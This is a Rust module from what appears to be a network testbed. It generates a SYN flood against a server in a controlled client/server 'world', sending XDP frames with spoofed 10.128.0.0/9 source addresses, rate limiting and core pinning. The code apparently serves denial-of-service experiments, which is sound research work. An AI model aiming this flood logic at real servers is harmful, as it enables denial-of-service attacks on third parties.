//! A SYN flood (RFC 4987 §2) from the client's side of a world, as fast as one core sends: every
//! SYN from another made-up address and port.

pub mod attack;
mod background;
pub mod experiment;
mod report;

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use netdev::{Claim, Claimed, Device, Interface, Placement, XdpDevice, xdp};
use wire::checksum::Sum;
use wire::ethernet::{MacAddr, Vlan};
use wire::ip::Ecn;
use wire::segment::{Headers, Link, TcpChecksum};
use wire::seq::SeqNumber;
use wire::tcp::{Flags, Options, Repr, Timestamps};

use self::background::Background;
pub use self::report::Report;
use crate::cores;
use crate::world::{Side, World};

/// Frames between two looks at whether to stop.
const BATCH: u32 = 64;

/// How long a flood sleeps that is ahead of its rate.
const PAUSE: Duration = Duration::from_micros(100);

/// When a flood gives up what the device does not take.
const LIMIT: Duration = Duration::from_secs(60);

/// The least port that a SYN comes from; what is flooded listens below, and no stranger seems to be
/// it.
const FIRST_PORT: u16 = 10_000;
/// How many ports they come from.
const PORTS: u16 = 50_000;
/// The addresses that they come from, which nobody here has.
const STRANGERS: (Ipv4Addr, Ipv4Addr) = (
    Ipv4Addr::new(10, 128, 0, 0),
    Ipv4Addr::new(10, 255, 255, 255),
);
/// The same as a network.
pub(crate) const STRANGERS_NETWORK: &str = "10.128.0.0/9";

/// A flood that goes on until it is stopped or dropped, kept by a thread of this process.
#[derive(Debug)]
pub struct SynFlood(Background);

impl SynFlood {
    /// Begins to flood an IPv4 address and port of the server's side.
    ///
    /// # Errors
    /// What kept the sender from being made.
    pub fn start(world: &World, target: SocketAddr) -> Result<Self> {
        Self::of(world, target, u32::MAX, None, f64::INFINITY)
    }

    /// As [`Self::start`], with no more than so many SYNs a second.
    ///
    /// # Errors
    /// What kept the sender from being made.
    pub fn start_slower(world: &World, target: SocketAddr, rate: f64) -> Result<Self> {
        Self::of(world, target, u32::MAX, None, rate)
    }

    /// As [`Self::start`], from a core of its own. What is answered to the strangers is taken out in
    /// the driver of the client's interface, as if it had left for elsewhere: the client's kernel,
    /// which would look for a way to each of them on the core of whoever answers, does not see it.
    ///
    /// # Errors
    /// What kept the sender from being made.
    pub fn start_from_core(world: &World, target: SocketAddr, core: usize) -> Result<Self> {
        let place = Place {
            core,
            gives_way: false,
        };
        Self::of(world, target, u32::MAX, Some(place), f64::INFINITY)
    }

    /// As [`Self::start_from_core`], with no more than so many SYNs a second, and sent while nobody else wants the
    /// core: clients there are not kept waiting by who attacks.
    ///
    /// # Errors
    /// What kept the sender from being made.
    pub fn start_behind(world: &World, target: SocketAddr, core: usize, rate: f64) -> Result<Self> {
        let place = Place {
            core,
            gives_way: true,
        };
        Self::of(world, target, u32::MAX, Some(place), rate)
    }

    /// Sends `count` SYNs to an IPv4 address and port of the server's side, and waits until the
    /// device took them.
    ///
    /// # Errors
    /// What kept the sender from being made.
    pub fn send(world: &World, target: SocketAddr, count: u32) -> Result<Report> {
        let mut flood = Self::of(world, target, count, None, f64::INFINITY)?;
        flood.0.join()
    }

    fn of(
        world: &World,
        target: SocketAddr,
        count: u32,
        place: Option<Place>,
        rate: f64,
    ) -> Result<Self> {
        let find = |side: Side| world.on(side, || Ok(Interface::find(side.interface())?));
        let from: Result<Interface> = find(Side::Client);
        let to: Result<Interface> = find(Side::Server);
        let (from, to) = (from?, to?);
        let (device, sink) = world.on(Side::Client, || {
            let config = xdp::Config {
                bind: xdp::Bind::Copy,
                ..xdp::Config::default()
            };
            let device = XdpDevice::open(&from, config).context("cannot open the sender")?;
            let sink = place.map(|_| sink(&from, target, &device)).transpose()?;
            Ok((device, sink))
        })?;
        let link = Link {
            src: MacAddr(from.mac),
            dst: MacAddr(to.mac),
            vlan: Vlan::default(),
        };
        let background = Background::start("SYN flood", move |stop| {
            let _sink = sink;
            if let Some(place) = place {
                place.take()?;
            }
            Ok(send(device, link, target, count, rate, stop))
        })?;
        Ok(Self(background))
    }

    /// Ends it, and says what it came to.
    ///
    /// # Errors
    /// The sender had failed.
    pub fn stop(mut self) -> Result<Report> {
        self.0.stop()
    }
}

/// Where the thread of an attack is.
#[derive(Clone, Copy, Debug)]
struct Place {
    core: usize,
    /// To whoever else wants the core.
    gives_way: bool,
}

impl Place {
    /// Puts the calling thread there.
    fn take(self) -> Result<()> {
        cores::stay_on(self.core)?;
        match self.gives_way {
            true => cores::give_way(),
            false => Ok(()),
        }
    }
}

/// Takes the answers to the strangers; nobody takes them out of the device's ring, which is soon
/// full.
fn sink(interface: &Interface, target: SocketAddr, device: &XdpDevice) -> Result<Claim> {
    let claimed = Claimed {
        server: target,
        addresses: vec![(STRANGERS.0.into(), STRANGERS.1.into())],
        ports: FIRST_PORT..=FIRST_PORT + (PORTS - 1),
    };
    let mut claim = Claim::attach(interface, Placement::Native, &claimed)?;
    claim.connect_queue(device.queue(), device)?;
    Ok(claim)
}

fn send(
    mut device: XdpDevice,
    link: Link,
    target: SocketAddr,
    count: u32,
    rate: f64,
    stop: &AtomicBool,
) -> Report {
    let begin = Instant::now();
    let mut sent: u32 = 0;
    while sent < count && !stop.load(Ordering::Relaxed) {
        // Saturates where the rate is infinite.
        let due = (begin.elapsed().as_secs_f64() * rate) as u32;
        if due <= sent {
            std::thread::sleep(PAUSE);
            continue;
        }
        for _ in 0..BATCH.min(count - sent).min(due - sent) {
            let Some(frame) = device.frame() else { break };
            let headers = syn(link, target, sent);
            let Ok(length) = headers.emit(0, TcpChecksum::Complete(Sum::ZERO), frame) else {
                break;
            };
            device.submit(length, None);
            sent += 1;
        }
        device.flush();
    }
    // What the kernel has not taken yet would be lost with the device.
    while device.flush() > 0 && begin.elapsed() < LIMIT {}
    Report {
        sent: sent.into(),
        took: begin.elapsed(),
    }
}

/// The SYN of the `number`th stranger. Its address is of 10.128.0.0/9, which nobody here has.
fn syn(link: Link, target: SocketAddr, number: u32) -> Headers {
    let [_, a, b, c] = number.to_be_bytes();
    Headers {
        link,
        src: IpAddr::V4(Ipv4Addr::new(10, 128 | a, b, c)),
        dst: target.ip(),
        hop_limit: 64,
        dscp: 0,
        ecn: Ecn::NotCapable,
        tcp: Repr {
            src_port: FIRST_PORT + (number >> 9) as u16 % PORTS,
            dst_port: target.port(),
            seq: SeqNumber(number.wrapping_mul(0x9e37_79b9)),
            ack: None,
            flags: Flags::SYN,
            window: 64_240,
            options: Options {
                mss: Some(1460),
                window_scale: Some(7),
                sack_permitted: true,
                timestamps: Some(Timestamps {
                    value: number,
                    echo: 0,
                }),
                ..Options::NONE
            },
        },
    }
}
